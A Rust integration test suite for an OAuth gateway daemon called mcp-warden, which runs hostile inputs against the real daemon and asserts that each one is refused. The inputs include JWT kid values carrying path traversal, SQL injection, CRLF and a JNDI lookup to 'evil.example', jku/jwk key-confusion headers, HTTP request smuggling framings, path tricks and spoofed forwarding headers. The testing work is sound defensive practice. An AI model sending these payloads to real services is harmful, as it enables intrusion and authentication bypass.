//! The attack matrix of issue 10: hostile tokens, headers, framing and paths
//! against the real daemon, each asserting the exact answer, that nothing
//! unauthenticated reached the upstream, and that the daemon keeps serving.
//!
//! Rows already covered elsewhere (cited, not repeated): `alg: none`, a `kid`
//! pointing nowhere, another audience or issuer, expired, not yet valid
//! (`gateway::invalid_tokens_get_invalid_token`); HS256 signed with the
//! public key as PEM and JWK (`gateway::hmac_signed_with_the_public_key_is_refused`);
//! a flood of forged kids (`gateway::a_flood_of_forged_kids_causes_at_most_one_fetch_per_cooldown`);
//! two `Authorization` headers and a token in the query string
//! (`gateway::malformed_requests_get_invalid_request`); `Origin` of another
//! site (`gateway::origin_rules`); admin endpoints without or with a wrong
//! token and the public port (`admin::token_file_protects_status_and_actions_only`,
//! `admin::routes_methods_and_the_public_port`).

mod support;

use std::net::SocketAddr;
use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use mcp_warden::daemon::Daemon;
use mcp_warden::demo::upstream::Upstream;
use serde_json::{Value, json};
use support::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const BIN: &str = env!("CARGO_BIN_EXE_mcp-warden");
/// `public.url` + `/mcp`: the audience of the tokens the gateway accepts.
const RESOURCE: &str = "https://mcp.example.com/mcp";
const PRM: &str = "/.well-known/oauth-protected-resource/mcp";
const WITHIN: Duration = Duration::from_secs(10);

fn echo(message: &str) -> Value {
    json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
        "params": {"name": "echo", "arguments": {"message": message}}})
}

/// The real daemon in front of the demo authorization server and a
/// stateless demo upstream that records what reaches it.
struct Gate {
    authz: AuthServer,
    upstream: Upstream,
    daemon: Daemon,
    client: reqwest::Client,
}

impl Gate {
    async fn start(extra: &str, tune: impl FnOnce(String) -> String) -> Gate {
        let authz = auth_server().await;
        let upstream = stateless_upstream().await;
        let text = tune(config(&resource_to(
            "r",
            "/mcp",
            &authz.issuer,
            &upstream.url,
            &format!("{extra}\n{}", curated_scopes()),
        )));
        let daemon = start(&text).await.expect("the daemon starts");
        Gate {
            authz,
            upstream,
            daemon,
            client: http(),
        }
    }

    fn token(&self) -> String {
        self.authz.access_token(RESOURCE, "openid all")
    }

    /// Valid claims for this resource, with `extra` replacing fields (a
    /// `null` removes one).
    fn claims(&self, extra: Value) -> Value {
        let now = mcp_warden::issuer::verifier::unix_now();
        let mut c = json!({
            "iss": self.authz.issuer, "aud": RESOURCE, "sub": "u", "scope": "all",
            "iat": now, "exp": now + 300,
        });
        for (k, v) in extra.as_object().expect("an object") {
            if v.is_null() {
                c.as_object_mut().unwrap().remove(k);
            } else {
                c[k] = v.clone();
            }
        }
        c
    }

    async fn call_with(&self, authorization: &str) -> reqwest::Response {
        self.client
            .post(url(&self.daemon, "/mcp"))
            .header("authorization", authorization)
            .json(&echo("ping"))
            .send()
            .await
            .expect("the daemon answers")
    }

    async fn call(&self, token: &str) -> reqwest::Response {
        self.call_with(&format!("Bearer {token}")).await
    }

    /// `/healthz` is 200 and a fresh valid token reaches the upstream.
    async fn assert_serving(&self, after: &str) {
        let health = self
            .client
            .get(url(&self.daemon, "/healthz"))
            .send()
            .await
            .unwrap_or_else(|e| panic!("after {after}: /healthz unreachable: {e}"));
        assert_eq!(health.status(), 200, "after {after}: /healthz");
        let r = self.call(&self.token()).await;
        assert_eq!(r.status(), 200, "after {after}: a valid request");
        let body: Value = r.json().await.unwrap();
        assert_eq!(
            body["result"]["content"][0]["text"], "Echo: ping",
            "after {after}"
        );
    }
}

fn www(r: &reqwest::Response) -> String {
    r.headers()
        .get("www-authenticate")
        .map(|v| v.to_str().unwrap().to_owned())
        .unwrap_or_default()
}

/// Asserts a 401 `invalid_token` challenge whose description contains `why`.
fn assert_invalid_token(r: &reqwest::Response, why: &str, case: &str) {
    assert_eq!(r.status(), 401, "{case}");
    let h = www(r);
    assert!(
        h.starts_with("Bearer resource_metadata=\"https://mcp.example.com/.well-known/oauth-protected-resource/mcp\""),
        "{case}: {h}"
    );
    assert!(h.contains("error=\"invalid_token\""), "{case}: {h}");
    assert!(h.contains(why), "{case}: wanted {why:?} in {h}");
}

#[tokio::test]
async fn hostile_kids_are_unknown_keys_and_cost_one_fetch_per_cooldown() {
    let g = Gate::start("", |t| {
        t.replace(
            "retry_max = \"400ms\"",
            "retry_max = \"400ms\"\njwks_cooldown = \"1s\"",
        )
    })
    .await;
    let kid = g.authz.default_kid();
    let hostile = [
        "../../etc/passwd".to_owned(),
        "/etc/passwd".to_owned(),
        "' OR 1=1 --".to_owned(),
        "\"; DROP TABLE keys; --".to_owned(),
        "\u{0000}".to_owned(),
        format!("{kid}\u{0000}"),
        format!("{kid} "),
        "a\r\nX-Injected: 1".to_owned(),
        "%00%2e%2e%2f".to_owned(),
        "${jndi:ldap://evil.example/a}".to_owned(),
    ];
    let long = "k".repeat(8 * 1024);
    let forge = |kid_value: Value| {
        g.authz
            .sign(&kid, json!({"kid": kid_value}), g.claims(json!({})))
    };
    let mut tokens: Vec<(String, String, &str)> = hostile
        .iter()
        .map(|k| (format!("kid {k:?}"), forge(json!(k)), "unknown key"))
        .collect();
    tokens.push(("an 8 KiB kid".into(), forge(json!(long)), "unknown key"));
    // Not a string at all (NoSQL-style operators, numbers): a malformed header.
    for k in [json!({"$ne": ""}), json!(["a"]), json!(7)] {
        tokens.push((format!("kid {k}"), forge(k), "unreadable token header"));
    }

    for burst in 1..=2u64 {
        let before = g.authz.jwks_requests();
        let g = &g;
        let answers = futures_util::future::join_all(
            tokens
                .iter()
                .map(|(case, token, why)| async move { (case, why, g.call(token).await) }),
        )
        .await;
        for (case, why, r) in answers {
            assert_invalid_token(&r, why, case);
            let h = www(&r);
            for echoed in ["passwd", "OR 1=1", "DROP", "jndi", "Injected", "kkkk"] {
                assert!(!h.contains(echoed), "{case}: the kid is echoed: {h}");
            }
        }
        assert_eq!(
            g.authz.jwks_requests() - before,
            1,
            "burst {burst}: one JWKS refetch for {} hostile kids",
            tokens.len()
        );
        assert_eq!(g.upstream.request_count(), 0);
        if burst == 1 {
            // The next cooldown window (1 s) allows one more refetch.
            tokio::time::sleep(Duration::from_millis(1100)).await;
        }
    }
    g.assert_serving("hostile kids").await;
}

#[tokio::test]
async fn key_headers_pointing_elsewhere_are_ignored() {
    let g = Gate::start("", |t| t).await;
    // The attacker runs an authorization server of their own, whose first
    // key has the same kid as the real one.
    let attacker = auth_server().await;
    let kid = attacker.default_kid();
    assert_eq!(kid, g.authz.default_kid(), "the kids collide");
    let attacker_jwk = attacker.public_jwk(&kid);
    let claims = g.claims(json!({}));
    let cases = [
        (
            "same kid, jku/x5u to the attacker's JWKS",
            json!({"jku": attacker.jwks_uri(), "x5u": attacker.jwks_uri()}),
            "signature does not verify",
        ),
        (
            "same kid, the attacker's key embedded as jwk",
            json!({"jwk": attacker_jwk}),
            "signature does not verify",
        ),
        (
            "no kid, the attacker's key embedded as jwk and x5c",
            json!({"kid": null, "jwk": attacker_jwk, "x5c": ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"]}),
            "signature does not verify",
        ),
        (
            "a kid only the attacker's JWKS has, with jku",
            json!({"kid": "attacker-only", "jku": attacker.jwks_uri()}),
            "unknown key",
        ),
    ];
    for (case, header, why) in cases {
        let token = attacker.sign(&kid, header, claims.clone());
        let r = g.call(&token).await;
        assert_invalid_token(&r, why, case);
    }
    assert_eq!(
        (attacker.discovery_requests(), attacker.jwks_requests()),
        (0, 0),
        "mcp-warden fetched from a URL named in a token header"
    );
    assert_eq!(g.upstream.request_count(), 0);
    g.assert_serving("key headers pointing elsewhere").await;
}

#[tokio::test]
async fn a_token_without_exp_is_refused() {
    let g = Gate::start("", |t| t).await;
    for (case, claims) in [
        ("no exp", g.claims(json!({"exp": null}))),
        ("exp null", {
            let mut c = g.claims(json!({}));
            c["exp"] = Value::Null;
            c
        }),
        ("exp not a number", g.claims(json!({"exp": "never"}))),
    ] {
        let r = g.call(&g.authz.mint(claims)).await;
        let why = if case == "exp not a number" {
            "a time claim is not a number"
        } else {
            "token has no exp"
        };
        assert_invalid_token(&r, why, case);
    }
    assert_eq!(g.upstream.request_count(), 0);
    g.assert_serving("tokens without exp").await;
}

/// Writes `request` on a fresh connection and reads until the server closes
/// it (or stays idle for 2 s). Returns the raw answer.
async fn raw(addr: SocketAddr, request: &[u8]) -> String {
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    // The server may answer and close before reading everything.
    let _ = s.write_all(request).await;
    let mut out = Vec::new();
    let mut buf = vec![0u8; 64 * 1024];
    loop {
        match tokio::time::timeout(Duration::from_secs(2), s.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) | Err(_) => break,
            Ok(Ok(n)) => out.extend_from_slice(&buf[..n]),
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The status codes of every response in a raw HTTP/1.1 answer.
fn statuses(answer: &str) -> Vec<u16> {
    answer
        .split("HTTP/1.1 ")
        .skip(1)
        .filter_map(|r| r.get(..3)?.parse().ok())
        .collect()
}

#[tokio::test]
async fn a_1_mib_token_gets_431_and_a_16_kib_one_invalid_token() {
    let g = Gate::start("", |t| t).await;
    // Past the HTTP layer's header limit: 431 before any parsing, over
    // reqwest and over a raw connection.
    let huge = format!(
        "{}.{}.{}",
        "a".repeat(512 * 1024),
        "b".repeat(512 * 1024),
        "c"
    );
    let r = g.call(&huge).await;
    assert_eq!(r.status(), 431);
    let answer = raw(
        g.daemon.public_addr,
        format!("POST /mcp HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {huge}\r\nContent-Length: 0\r\n\r\n").as_bytes(),
    )
    .await;
    assert_eq!(statuses(&answer), [431], "{answer:.200}");
    // Under it but over the token limit (16 KiB): refused before decoding.
    let big = format!("{}.{}.{}", "a".repeat(8 * 1024), "b".repeat(8 * 1024), "c");
    let r = g.call(&big).await;
    assert_invalid_token(&r, "token too large", "a 16 KiB token");
    assert_eq!(g.upstream.request_count(), 0);
    g.assert_serving("a 1 MiB token").await;
}

#[tokio::test]
async fn a_hundred_8_kib_headers_get_431() {
    let g = Gate::start("", |t| t).await;
    let value = "v".repeat(8 * 1024);
    let mut headers = reqwest::header::HeaderMap::new();
    for i in 0..100 {
        headers.insert(
            reqwest::header::HeaderName::from_bytes(format!("x-big-{i}").as_bytes()).unwrap(),
            value.parse().unwrap(),
        );
    }
    let r = g
        .client
        .post(url(&g.daemon, "/mcp"))
        .bearer_auth(g.token())
        .headers(headers)
        .json(&echo("big"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 431);
    let mut request = format!(
        "POST /mcp HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\nContent-Length: 0\r\n",
        g.token()
    );
    for i in 0..100 {
        request.push_str(&format!("X-Big-{i}: {value}\r\n"));
    }
    request.push_str("\r\n");
    let answer = raw(g.daemon.public_addr, request.as_bytes()).await;
    assert_eq!(statuses(&answer), [431], "{answer:.200}");
    assert_eq!(g.upstream.request_count(), 0);
    g.assert_serving("100 headers of 8 KiB").await;
}

#[tokio::test]
async fn the_bearer_scheme_is_case_insensitive() {
    let g = Gate::start("", |t| t).await;
    // RFC 9110 §11.1: auth schemes are case-insensitive.
    for scheme in ["Bearer", "bearer", "BEARER", "bEaReR"] {
        let r = g.call_with(&format!("{scheme} {}", g.token())).await;
        assert_eq!(r.status(), 200, "{scheme}");
    }
    assert_eq!(g.upstream.request_count(), 4);
    // Another scheme carries no bearer token: the plain challenge.
    let r = g.call_with(&format!("Basic {}", g.token())).await;
    assert_eq!(r.status(), 401);
    assert!(!www(&r).contains("error="), "{}", www(&r));
    assert_eq!(g.upstream.request_count(), 4);
}

#[tokio::test]
async fn request_smuggling_attempts_smuggle_nothing() {
    let g = Gate::start("", |t| t).await;
    let addr = g.daemon.public_addr;
    let token = g.token();
    let body = serde_json::to_string(&echo("legit")).unwrap();
    // A second request hidden where a front end that trusts Content-Length
    // would see the end of the body: unauthenticated, marked "smuggled".
    let smuggled = "POST /mcp HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 18\r\n\r\n{\"smuggled\": true}";
    let chunked = format!("{:x}\r\n{body}\r\n0\r\n\r\n", body.len());
    let head = format!(
        "POST /mcp HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\n"
    );

    // Transfer-Encoding with Content-Length, in both orders: RFC 9112 §6.1
    // lets a server process the request by Transfer-Encoding alone, and then
    // it MUST close the connection. hyper does exactly that: the legitimate
    // (chunked) request is answered, the connection is closed, and the bytes
    // after the last chunk are never parsed as a request.
    for (case, headers) in [
        (
            "TE then CL",
            "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n",
        ),
        (
            "CL then TE",
            "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n",
        ),
    ] {
        let before = g.upstream.request_count();
        let answer = raw(
            addr,
            format!("{head}{headers}\r\n{chunked}{smuggled}").as_bytes(),
        )
        .await;
        assert_eq!(statuses(&answer), [200], "{case}: one answer: {answer}");
        assert!(
            answer.to_ascii_lowercase().contains("connection: close"),
            "{case}: {answer}"
        );
        assert!(answer.contains("Echo: legit"), "{case}: {answer}");
        let seen = &g.upstream.requests()[before..];
        assert_eq!(seen.len(), 1, "{case}: {seen:?}");
        assert_eq!(
            seen[0].body,
            body.as_bytes(),
            "{case}: the chunked body, whole"
        );
        assert_eq!(
            seen[0].header("content-length"),
            None,
            "{case}: the client's Content-Length was not forwarded"
        );
    }

    // Framing hyper refuses outright: 400, connection closed, nothing forwarded.
    let before = g.upstream.request_count();
    for (case, headers, payload) in [
        (
            "two different Content-Length headers",
            format!("Content-Length: {}\r\nContent-Length: 4\r\n", body.len()),
            format!("{body}{smuggled}"),
        ),
        (
            "a Content-Length list",
            format!("Content-Length: {}, 4\r\n", body.len()),
            format!("{body}{smuggled}"),
        ),
        (
            "chunked not the final encoding",
            "Transfer-Encoding: chunked, identity\r\nContent-Length: 4\r\n".into(),
            format!("{chunked}{smuggled}"),
        ),
        (
            "an obfuscated Transfer-Encoding",
            "Transfer-Encoding: xchunked\r\nContent-Length: 4\r\n".into(),
            format!("{chunked}{smuggled}"),
        ),
    ] {
        let answer = raw(addr, format!("{head}{headers}\r\n{payload}").as_bytes()).await;
        assert_eq!(statuses(&answer), [400], "{case}: {answer}");
    }
    assert_eq!(
        g.upstream.request_count(),
        before,
        "a refused request reached the upstream"
    );
    for r in g.upstream.requests() {
        assert!(
            !String::from_utf8_lossy(&r.body).contains("smuggled"),
            "smuggled bytes reached the upstream: {r:?}"
        );
    }
    g.assert_serving("smuggling attempts").await;
}

#[tokio::test]
async fn path_tricks_reach_only_what_they_should() {
    let g = Gate::start("", |t| t).await;
    let addr = g.daemon.public_addr;
    let token = g.token();
    let body = serde_json::to_string(&echo("path")).unwrap();
    let send = |target: &str, auth: bool| {
        let auth = if auth {
            format!("Authorization: Bearer {token}\r\n")
        } else {
            String::new()
        };
        format!(
            "POST {target} HTTP/1.1\r\nHost: mcp.example.com\r\n{auth}Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
    };
    // Paths are matched exactly as sent: no dot-segment removal, no
    // percent-decoding, no case folding. None of these is the endpoint, the
    // metadata or an admin route: 404 with or without a token.
    for target in [
        "/mcp/../admin",
        "/mcp/../metrics",
        "/mcp/..%2fstatus",
        "//mcp",
        "/./mcp",
        "/%6dcp",
        "/%6Dcp",
        "/mcp%2f",
        "/MCP",
        "/Mcp",
        "/mcp;x",
        "/mcp%00",
        "/.well-known/oauth-protected-resource/../../mcp",
        "/.well-known/oauth-protected-resource/mcp/../../../mcp",
        "/.well-known/oauth-protected-resource/%6dcp",
        "/.well-known/oauth-protected-resource//mcp",
        "*",
    ] {
        for auth in [false, true] {
            let answer = raw(addr, send(target, auth).as_bytes()).await;
            assert_eq!(
                statuses(&answer),
                [404],
                "{target} (token: {auth}): {answer}"
            );
            assert!(answer.contains("not_found"), "{target}: {answer}");
        }
    }
    assert_eq!(
        g.upstream.request_count(),
        0,
        "a path trick reached the upstream"
    );
    // The forms that do name the endpoint are authenticated like it.
    for target in ["/mcp", "/mcp/", "/mcp?x=1", "http://evil.example/mcp"] {
        let answer = raw(addr, send(target, false).as_bytes()).await;
        assert_eq!(statuses(&answer), [401], "{target}: {answer}");
        assert!(answer.contains("resource_metadata="), "{target}: {answer}");
    }
    assert_eq!(g.upstream.request_count(), 0);
    let answer = raw(addr, send("/mcp/", true).as_bytes()).await;
    assert_eq!(statuses(&answer), [200], "{answer}");
    // The metadata is served only at its own path (GET).
    let r = g.client.get(url(&g.daemon, PRM)).send().await.unwrap();
    assert_eq!(r.status(), 200);
    g.assert_serving("path tricks").await;
}

#[tokio::test]
async fn spoofed_identity_and_forwarding_headers_are_replaced() {
    // `gateway::a_valid_token_reaches_the_upstream_without_the_token` covers
    // X-Forwarded-For and X-Mcp-Auth-Subject; here: every other such header,
    // in any case, listed in Connection, and with identity headers off.
    for identity in [true, false] {
        let extra = if identity {
            ""
        } else {
            "identity_headers = false"
        };
        let g = Gate::start(extra, |t| t).await;
        let r = g
            .client
            .post(url(&g.daemon, "/mcp"))
            .bearer_auth(g.token())
            .header("X-MCP-AUTH-SUBJECT", "admin")
            .header("x-mcp-auth-client-id", "trusted-client")
            .header("X-Mcp-Auth-Scopes", "admin superuser")
            .header("x-mcp-auth-authorization-details", "[{\"type\":\"all\"}]")
            .header("x-mcp-auth-anything", "x")
            .header("X-Forwarded-For", "6.6.6.6")
            .header("X-Forwarded-Host", "evil.example")
            .header("X-Forwarded-Proto", "http")
            .header("X-Forwarded-Port", "80")
            .header("X-Forwarded-Prefix", "/admin")
            .header("Forwarded", "for=6.6.6.6;host=evil.example;proto=http")
            .header("Connection", "keep-alive, x-custom-hop")
            .header("X-Custom-Hop", "dropped")
            .json(&echo("spoof"))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200);
        let req = g.upstream.requests().pop().unwrap();
        let one = |n: &str| req.header_all(n);
        if identity {
            assert_eq!(one("x-mcp-auth-subject"), ["user-1"]);
            assert_eq!(one("x-mcp-auth-client-id"), ["demo-client"]);
            assert_eq!(one("x-mcp-auth-scopes"), ["openid all"]);
        } else {
            assert!(one("x-mcp-auth-subject").is_empty(), "{req:?}");
            assert!(one("x-mcp-auth-client-id").is_empty(), "{req:?}");
            assert!(one("x-mcp-auth-scopes").is_empty(), "{req:?}");
        }
        assert!(one("x-mcp-auth-authorization-details").is_empty());
        assert!(one("x-mcp-auth-anything").is_empty());
        assert_eq!(one("x-forwarded-for"), ["127.0.0.1"]);
        assert_eq!(one("x-forwarded-host"), ["mcp.example.com"]);
        assert_eq!(one("x-forwarded-proto"), ["https"]);
        assert!(one("x-forwarded-port").is_empty());
        assert!(one("x-forwarded-prefix").is_empty());
        assert!(one("forwarded").is_empty());
        assert!(one("x-custom-hop").is_empty(), "listed in Connection");
        for (name, value) in &req.headers {
            for spoofed in ["admin", "6.6.6.6", "evil.example", "trusted-client"] {
                assert!(
                    !value.contains(spoofed),
                    "identity_headers = {identity}: {name}: {value}"
                );
            }
        }
    }
}

#[tokio::test]
async fn underscore_spellings_of_identity_headers_are_not_forwarded() {
    // CGI/WSGI servers (and frameworks built on them) expose request headers
    // as HTTP_* variables with `-` turned into `_`, so `X-Mcp-Auth_Subject`
    // and `X-Mcp-Auth-Subject` are the same variable to them. nginx drops
    // headers with underscores by default for this reason.
    let g = Gate::start("", |t| t).await;
    let r = g
        .client
        .post(url(&g.daemon, "/mcp"))
        .bearer_auth(g.token())
        .header("X_Mcp_Auth_Subject", "admin")
        .header("x-mcp-auth_scopes", "admin")
        .header("X_Forwarded_For", "6.6.6.6")
        .json(&echo("underscore"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let req = g.upstream.requests().pop().unwrap();
    let spoofed: Vec<_> = req
        .headers
        .iter()
        .filter(|(n, _)| n.contains('_'))
        .collect();
    assert!(
        spoofed.is_empty(),
        "client-sent headers that a CGI/WSGI upstream reads as X-Mcp-Auth-* / X-Forwarded-* \
         reached the upstream: {spoofed:?} (fix: in src/proxy.rs `is_dropped`, compare the \
         name with `_` mapped to `-`, or drop every header whose name contains `_`)"
    );
}

/// Starts the binary on `config`, stderr into `log`; returns once it listens.
async fn spawn_logging(config: &Path, log: &Path, admin: u16) -> tokio::process::Child {
    let file = std::fs::File::create(log).unwrap();
    let child = tokio::process::Command::new(BIN)
        .arg("--config")
        .arg(config)
        .env_remove("MCP_OAUTH_SCOPES")
        .env_remove("NOTIFY_SOCKET")
        .env("RUST_LOG", "trace")
        .env("NO_COLOR", "1")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::from(file))
        .kill_on_drop(true)
        .spawn()
        .expect("spawn mcp-warden");
    let c = http();
    eventually(WITHIN, || async {
        let r = c
            .get(format!("http://127.0.0.1:{admin}/readyz"))
            .send()
            .await
            .ok()?;
        (r.status() == 200).then_some(())
    })
    .await;
    child
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tokens_never_appear_in_logs_even_at_trace_level() {
    let authz = auth_server().await;
    let upstream = stateless_upstream().await;
    let dir = tempfile::tempdir().unwrap();
    let admin_secret = "admin-secret-5f1c9a7e2b";
    let token_file = dir.path().join("admin-token");
    std::fs::write(&token_file, admin_secret).unwrap();
    let (public, admin) = (free_port(), free_port());
    let resources = format!(
        "{}{}\n[log]\nlevel = \"trace\"\n",
        resource_to("r", "/mcp", &authz.issuer, &upstream.url, ""),
        resource_to(
            "f",
            "/fwd",
            &authz.issuer,
            &upstream.url,
            "forward_token = true"
        ),
    );
    let text = config(&resources)
        .replacen(
            "listen = \"127.0.0.1:0\"",
            &format!("listen = \"127.0.0.1:{public}\""),
            1,
        )
        .replacen(
            "listen = \"127.0.0.1:0\"",
            &format!(
                "listen = \"127.0.0.1:{admin}\"\ntoken_file = {:?}",
                token_file.display().to_string()
            ),
            1,
        );
    let config_path = dir.path().join("config.toml");
    std::fs::write(&config_path, text).unwrap();
    let log_path = dir.path().join("stderr.log");
    let mut child = spawn_logging(&config_path, &log_path, admin).await;

    let c = http();
    let base = format!("http://127.0.0.1:{public}");
    let valid = authz.access_token(RESOURCE, "openid all");
    let forwarded = authz.access_token("https://mcp.example.com/fwd", "openid all");
    let wrong_audience = authz.access_token("https://other.example/mcp", "all");
    let mut tampered = authz.access_token(RESOURCE, "all");
    tampered.truncate(tampered.len() - 4);
    tampered.push_str("AAAA");
    let in_query = authz.access_token(RESOURCE, "all");
    let post = |path: &str, token: &str| {
        c.post(format!("{base}{path}"))
            .bearer_auth(token)
            .json(&echo("log"))
            .send()
    };
    for (case, response, status) in [
        ("valid", post("/mcp", &valid).await, 200),
        ("valid, cached", post("/mcp", &valid).await, 200),
        ("forwarded", post("/fwd", &forwarded).await, 200),
        ("wrong audience", post("/mcp", &wrong_audience).await, 401),
        ("bad signature", post("/mcp", &tampered).await, 401),
        (
            "in the query",
            c.post(format!("{base}/mcp?access_token={in_query}"))
                .json(&echo("log"))
                .send()
                .await,
            400,
        ),
        (
            "admin, right token",
            c.get(format!("http://127.0.0.1:{admin}/status"))
                .bearer_auth(admin_secret)
                .send()
                .await,
            200,
        ),
        (
            "admin, wrong token",
            c.get(format!("http://127.0.0.1:{admin}/status"))
                .bearer_auth(format!("{admin_secret}-wrong"))
                .send()
                .await,
            401,
        ),
    ] {
        assert_eq!(response.unwrap().status(), status, "{case}");
    }
    let last = upstream.requests().pop().unwrap();
    assert_eq!(
        last.header("authorization"),
        Some(format!("Bearer {forwarded}").as_str()),
        "forward_token sent the token upstream"
    );

    assert_eq!(terminate(&mut child, WITHIN).await, Some(0));

    let log = std::fs::read_to_string(&log_path).unwrap();
    // Trace logging was on, the HTTP client's and the gateway's included.
    for wanted in ["TRACE reqwest", "TRACE hyper_util", "mcp_warden::gateway"] {
        assert!(
            log.contains(wanted),
            "no {wanted:?} in {} log bytes",
            log.len()
        );
    }
    let mut secrets = vec![("the admin token", admin_secret.to_owned())];
    for (name, token) in [
        ("the valid token", &valid),
        ("the forwarded token", &forwarded),
        ("the wrong-audience token", &wrong_audience),
        ("the tampered token", &tampered),
        ("the query-string token", &in_query),
    ] {
        let parts: Vec<&str> = token.split('.').collect();
        secrets.push((name, token.clone()));
        // Each part alone: the claims (unique per token) and the signature.
        secrets.push((name, parts[1].to_owned()));
        secrets.push((name, parts[2].to_owned()));
    }
    let leaks: Vec<String> = secrets
        .iter()
        .filter(|(_, s)| log.contains(s.as_str()))
        .map(|(name, s)| {
            let line = log.lines().find(|l| l.contains(s.as_str())).unwrap_or("");
            format!("{name} ({:.12}…) in: {:.300}", s, line)
        })
        .collect();
    assert!(
        leaks.is_empty(),
        "secrets in the trace log ({} lines):\n{}",
        log.lines().count(),
        leaks.join("\n")
    );
}
